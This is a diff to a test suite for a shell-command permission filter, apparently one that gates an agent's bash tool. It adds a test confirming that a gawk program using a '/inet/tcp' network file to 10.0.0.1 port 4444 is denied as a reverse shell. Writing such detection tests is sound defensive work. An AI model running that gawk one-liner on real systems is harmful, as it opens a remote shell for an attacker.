@@ -250,3 +250,9 @@ def test_renames_and_moves_inside_the_repository_pass(bash: Bash) -> None:
     assert bash("rename 's/\\.py$/.bak/' src/*.py")[0] == "allow"
     assert bash("mv src/*.py lib/")[0] == "allow"
     assert bash("mv notes.txt /tmp/")[0] == "allow"
+
+
+def test_gawk_network_files_are_a_reverse_shell(bash: Bash) -> None:
+    program = 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while ((s |& getline c) > 0) {print c |& s}}'
+    assert bash(f"gawk '{program}'") == ("deny", "reverse-shell")
+    assert bash("awk '{print $1}' file.txt")[0] == "allow"
